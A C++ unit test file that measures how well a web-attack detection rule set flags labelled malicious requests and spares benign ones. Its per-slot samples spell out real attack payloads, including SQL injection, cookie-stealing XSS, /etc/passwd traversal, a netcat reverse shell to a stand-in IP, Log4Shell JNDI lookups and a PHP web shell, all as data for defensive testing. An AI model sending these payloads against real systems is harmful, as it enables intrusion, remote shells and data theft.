// The stored rule set against labelled requests: per-category detection and the benign
// false-positive rate of the compact set (slots 1-6) and the broad set (slots 1-8), on our
// own corpus (tests/data/rules/) and, when present, on the shared corpus. Also every slot
// against its own samples, and every slot against hostile 1 MB subjects.

#include <gtest/gtest.h>

#include <cstddef>
#include <cstdio>
#include <filesystem>
#include <fstream>
#include <map>
#include <string>
#include <string_view>
#include <vector>

#include "rules/matcher.h"
#include "rules/rule_slots.h"

namespace ostrel {
namespace {

constexpr std::size_t kCompactSlots = 6;
constexpr std::size_t kBroadSlots = 8;

// One labelled request: its category (attack category or benign source) and the subject
// the rules see.
struct Sample {
  std::string category;
  std::string subject;
};

std::string LowerAsciiLetters(std::string text) {
  for (char& c : text) {
    if (c >= 'A' && c <= 'Z') c = static_cast<char>(c - 'A' + 'a');
  }
  return text;
}

// The subject the engine builds from a corpus entry. A request target ("/path?query") is
// fed as an Apache/Nginx request text; an IIS entry (log type "0") is the URI query field
// itself; anything else is already a whole subject (a Tomcat request text through the
// user agent, or an Apache request text with another method).
std::string SubjectOf(std::string_view log_type, std::string_view text) {
  if (log_type != "0" && !text.empty() && text.front() == '/') {
    return LowerAsciiLetters("get " + std::string(text) + " http/1.1");
  }
  return LowerAsciiLetters(std::string(text));
}

std::vector<std::string> SplitTabs(const std::string& line) {
  std::vector<std::string> fields;
  std::size_t start = 0;
  while (true) {
    const std::size_t tab = line.find('\t', start);
    fields.push_back(
        line.substr(start, tab == std::string::npos ? std::string::npos : tab - start));
    if (tab == std::string::npos) return fields;
    start = tab + 1;
  }
}

// Reads a corpus file: "category<TAB>log type<TAB>text" (our own) or "category<TAB>target"
// (the shared corpus). Fails the test on a malformed line.
std::vector<Sample> ReadCorpus(const std::filesystem::path& path) {
  std::ifstream in(path);
  EXPECT_TRUE(in) << "cannot open " << path;
  std::vector<Sample> samples;
  std::string line;
  int number = 0;
  while (std::getline(in, line)) {
    ++number;
    if (!line.empty() && line.back() == '\r') line.pop_back();
    if (line.empty()) continue;
    const std::vector<std::string> fields = SplitTabs(line);
    if (fields.size() == 3) {
      samples.push_back({fields[0], SubjectOf(fields[1], fields[2])});
    } else if (fields.size() == 2) {
      samples.push_back({fields[0], SubjectOf("any", fields[1])});
    } else {
      ADD_FAILURE() << path << ":" << number << ": expected 2 or 3 tab-separated fields";
    }
  }
  return samples;
}

// Whether any of the first slot_count slots matches subject.
bool SetMatches(Matcher& matcher, std::size_t slot_count, std::string_view subject) {
  for (std::size_t slot = 0; slot < slot_count; ++slot) {
    if (matcher.SlotMatches(slot, subject)) return true;
  }
  return false;
}

struct Tally {
  std::size_t samples = 0;
  std::size_t flagged = 0;
  double Percent() const { return samples == 0 ? 0.0 : 100.0 * flagged / samples; }
};

struct SetResult {
  std::map<std::string, Tally> by_category;
  Tally all;
};

SetResult Measure(Matcher& matcher, std::size_t slot_count, const std::vector<Sample>& samples) {
  SetResult result;
  for (const Sample& sample : samples) {
    const bool flagged = SetMatches(matcher, slot_count, sample.subject);
    Tally& tally = result.by_category[sample.category];
    ++tally.samples;
    ++result.all.samples;
    if (flagged) {
      ++tally.flagged;
      ++result.all.flagged;
    }
  }
  return result;
}

void PrintTable(const std::string& title, const SetResult& result) {
  std::printf("%s\n  %-24s %8s %10s\n", title.c_str(), "category", "samples", "flagged %");
  for (const auto& [category, tally] : result.by_category) {
    std::printf("  %-24s %8zu %9.2f%%\n", category.c_str(), tally.samples, tally.Percent());
  }
  std::printf("  %-24s %8zu %9.2f%%\n", "all", result.all.samples, result.all.Percent());
}

struct Targets {
  double all_attacks;    // lowest share of all attack samples flagged, percent
  double each_category;  // lowest share per attack category, percent
  double benign;         // highest share of benign samples flagged, percent
};

constexpr Targets kCompactTargets = {95.0, 90.0, 0.05};
constexpr Targets kBroadTargets = {98.0, 95.0, 0.5};

// Measures both sets on one corpus, prints the tables and checks the targets.
void CheckCorpus(const std::string& name, const std::vector<Sample>& attacks,
                 const std::vector<Sample>& benign) {
  ASSERT_FALSE(attacks.empty());
  ASSERT_FALSE(benign.empty());
  Matcher matcher(StoredRuleSlots(), kRuleKeyText);
  struct Set {
    const char* name;
    std::size_t slots;
    Targets targets;
  };
  for (const Set& set :
       {Set{"compact", kCompactSlots, kCompactTargets}, Set{"broad", kBroadSlots, kBroadTargets}}) {
    const SetResult detected = Measure(matcher, set.slots, attacks);
    const SetResult flagged = Measure(matcher, set.slots, benign);
    PrintTable(name + ", " + set.name + " set, attacks detected:", detected);
    PrintTable(name + ", " + set.name + " set, benign flagged:", flagged);
    EXPECT_GE(detected.all.Percent(), set.targets.all_attacks) << name << " " << set.name;
    for (const auto& [category, tally] : detected.by_category) {
      EXPECT_GE(tally.Percent(), set.targets.each_category)
          << name << " " << set.name << " " << category;
    }
    EXPECT_LE(flagged.all.Percent(), set.targets.benign) << name << " " << set.name;
  }
  EXPECT_EQ(matcher.limit_failures(), 0u);
}

TEST(RuleCorpusTest, OwnCorpusMeetsTargets) {
  const std::filesystem::path folder = std::filesystem::path(OSTREL_TEST_DATA) / "rules";
  CheckCorpus("tests/data/rules", ReadCorpus(folder / "attacks.tsv"),
              ReadCorpus(folder / "benign.tsv"));
}

TEST(RuleCorpusTest, SharedCorpusMeetsTargets) {
  const std::filesystem::path folder = OSTREL_SHARED_CORPUS;
  if (!std::filesystem::exists(folder / "attacks.tsv") ||
      !std::filesystem::exists(folder / "benign.tsv")) {
    GTEST_SKIP() << "no shared corpus at " << folder;
  }
  CheckCorpus("shared corpus", ReadCorpus(folder / "attacks.tsv"),
              ReadCorpus(folder / "benign.tsv"));
}

TEST(RuleCorpusTest, OwnCorpusCoversEveryCategory) {
  const std::vector<Sample> attacks =
      ReadCorpus(std::filesystem::path(OSTREL_TEST_DATA) / "rules" / "attacks.tsv");
  std::map<std::string, std::size_t> counts;
  for (const Sample& sample : attacks) ++counts[sample.category];
  for (const char* category :
       {"sqli", "xss", "traversal_lfi_rfi", "cmdi_rce", "java_ognl_jndi_ssti", "webshell_probe"}) {
    EXPECT_GE(counts[category], 50u) << category;
  }
}

// Every slot has requests it exists for and look-alikes it must leave alone.
struct SlotCase {
  std::size_t slot;  // 1-based, as the slots are numbered in the window and the notes
  bool attack;
  const char* subject;  // as the engine sees it: lower case, not decoded
};

void PrintTo(const SlotCase& c, std::ostream* os) {
  *os << "slot " << c.slot << (c.attack ? " must match " : " must not match ") << c.subject;
}

class SlotSampleTest : public testing::TestWithParam<SlotCase> {};

TEST_P(SlotSampleTest, MatchesItsAttacksOnly) {
  const SlotCase& c = GetParam();
  Matcher matcher(StoredRuleSlots(), kRuleKeyText);
  EXPECT_EQ(matcher.SlotMatches(c.slot - 1, c.subject), c.attack);
  EXPECT_EQ(matcher.limit_failures(), 0u);
}

constexpr SlotCase kSlotCases[] = {
    // Slot 1: SQL injection.
    {1, true, "get /item?id=1%27%20or%20%271%27%3d%271 http/1.1"},
    {1, true, "get /item?id=-1+union+all+select+1,2,group_concat(table_name)-- http/1.1"},
    {1, true, "get /item?id=1;waitfor%20delay%20%270:0:5%27-- http/1.1"},
    {1, true, "get /item?id=1/**/and/**/sleep(5) http/1.1"},
    {1, true, "id=1%2527%2520or%25201%253d1--"},
    {1, false, "get /search?q=o%27brien+and+d%27angelo http/1.1"},
    {1, false, "get /search?q=union+station+select+your+size http/1.1"},
    {1, false, "get /blog/drop-shipping-and-order-by-phone http/1.1"},
    // Slot 2: cross-site scripting.
    {2, true, "get /s?q=%3cscript%3ealert(1)%3c/script%3e http/1.1"},
    {2, true, "get /s?q=%22%3e%3cimg%20src%3dx%20onerror%3dprompt(1)%3e http/1.1"},
    {2, true, "get /r?u=javascript:alert(document.cookie) http/1.1"},
    {2, true, "get /s?q=%253csvg%2520onload%253dalert(1)%253e http/1.1"},
    {2, false, "get /s?q=javascript+the+good+parts http/1.1"},
    {2, false, "get /s?q=price+%3c+100+and+size+%3e+10 http/1.1"},
    {2, false, "get /forum/post?body=try+%3ccode%3egit+status%3c%2fcode%3e http/1.1"},
    // Slot 3: path traversal, local and remote file inclusion.
    {3, true, "get /download?file=../../../../etc/passwd http/1.1"},
    {3, true, "get /download?file=..%252f..%252f..%252fwindows%252fwin.ini http/1.1"},
    {3, true, "get /index.php?page=php://filter/convert.base64-encode/resource=index http/1.1"},
    {3, true, "get /index.php?page=http://evil.example/shell.txt? http/1.1"},
    {3, false, "get /redirect?url=https%3a%2f%2fpartner.example.org%2foffer%3fid%3d7 http/1.1"},
    {3, false, "get /docs/getting-started/../install.html http/1.1"},
    {3, false, "get /files?path=%2fdocuments%2freports%2f2024 http/1.1"},
    // Slot 4: OS command injection and code execution.
    {4, true, "get /ping?host=127.0.0.1%3bcat%20/etc/passwd http/1.1"},
    {4, true, "get /ping?host=x%7cnc%20198.51.100.7%204444%20-e%20/bin/sh http/1.1"},
    {4, true, "get /cgi-bin/x http/1.1\" 200 1 \"-\" \"() { :; }; /bin/bash -c id\""},
    {4, true, "get /x.php?c=%3c?php%20system($_get[1]);?%3e http/1.1"},
    {4, false, "get /s?q=cat+food+and+dog+toys http/1.1"},
    {4, false, "get /api/products?fields=name|price|sku http/1.1"},
    {4, false, "get /s?q=tom+%26+jerry http/1.1"},
    // Slot 5: Java, OGNL, JNDI, expression and template injection; Weblogic and Tomcat.
    {5, true, "get / http/1.1\" 200 1 \"-\" \"${jndi:ldap://198.51.100.7/a}\""},
    {5, true, "get /?x=%24%7b%24%7blower:j%7dndi:rmi://evil.example/x%7d http/1.1"},
    {5, true,
     "get /a.action?redirect:%24%7b%23a%3dnew%20java.lang.processbuilder(%27id%27)%7d http/1.1"},
    {5, true, "get /wls-wsat/coordinatorporttype http/1.1"},
    {5, true, "get /page?name=%7b%7b7*7%7d%7d http/1.1"},
    {5, false, "get /s?q=java.lang.nullpointerexception http/1.1"},
    {5, false, "get /s?q=log4j+vulnerability+jndi+lookup http/1.1"},
    {5, false, "get /template?name=%7b%7bitem.title%7d%7d http/1.1"},
    // Slot 6: web shells, scanner and administration probes.
    {6, true, "get /.git/config http/1.1"},
    {6, true, "get /wwwroot.rar http/1.1"},
    {6, true, "get /manager/html http/1.1"},
    {6, true, "get /uploads/c99.php?act=ls http/1.1"},
    {6, true, "get / http/1.1\" 404 1 \"-\" \"mozilla/5.00 (nikto/2.1.6)\""},
    {6, false, "get /downloads/setup-3.1.4.zip http/1.1"},
    {6, false, "get /s?q=web.config+transform http/1.1"},
    {6, false, "get /.well-known/security.txt http/1.1"},
    // Slot 7: wider SQL and script keywords.
    {7, true, "get /item?id=5%20and%20sleep(3) http/1.1"},
    {7, true, "get /item?id=1%27%20or%20x%3dx http/1.1"},
    {7, true, "get /page?q=%3cdiv%20style%3dx%3e http/1.1"},
    {7, false, "get /search?q=o%27reilly+javascript+book http/1.1"},
    {7, false, "get /blog?tag=c%2b%2b http/1.1"},
    // Slot 8: wider traversal, command, probe and encoding tricks.
    {8, true, "get /file?name=..%2fconfig.ini http/1.1"},
    {8, true, "get /a?b=%c0%ae%c0%ae%c0%af http/1.1"},
    {8, true, "get /x?name=%73%65lect http/1.1"},
    {8, true, "trace"},
    {8, false, "get /jsp/index.jsp;jsessionid=a1b2c3d4e5f6 http/1.1"},
    {8, false, "get /s?q=50%25+off+shoes http/1.1"},
};

INSTANTIATE_TEST_SUITE_P(Slots, SlotSampleTest, testing::ValuesIn(kSlotCases));

// Hostile 1 MB subjects end at no match limit on any slot: the patterns have no nested
// unbounded repetition, so their work grows linearly with the subject.
TEST(RuleHostileTest, MegabyteSubjectsStayWithinLimits) {
  constexpr std::size_t kSize = 1 << 20;
  const char* const kUnits[] = {
      "union select ", "%27", "%27%20or%20", "<<<<", "../",      "%2e%2e%2f", "a",      "((", "%",
      "${${",          "{{",  "%20",         "/**/", "1=1 and ", "<script",   "%c0%ae",
  };
  Matcher matcher(StoredRuleSlots(), kRuleKeyText);
  for (const char* unit : kUnits) {
    std::string subject;
    subject.reserve(kSize + 16);
    while (subject.size() < kSize) subject += unit;
    for (std::size_t slot = 0; slot < kBroadSlots; ++slot) {
      matcher.SlotMatches(slot, subject);
      EXPECT_EQ(matcher.limit_failures(), 0u) << "slot " << slot + 1 << " unit " << unit;
    }
  }
}

}  // namespace
}  // namespace ostrel
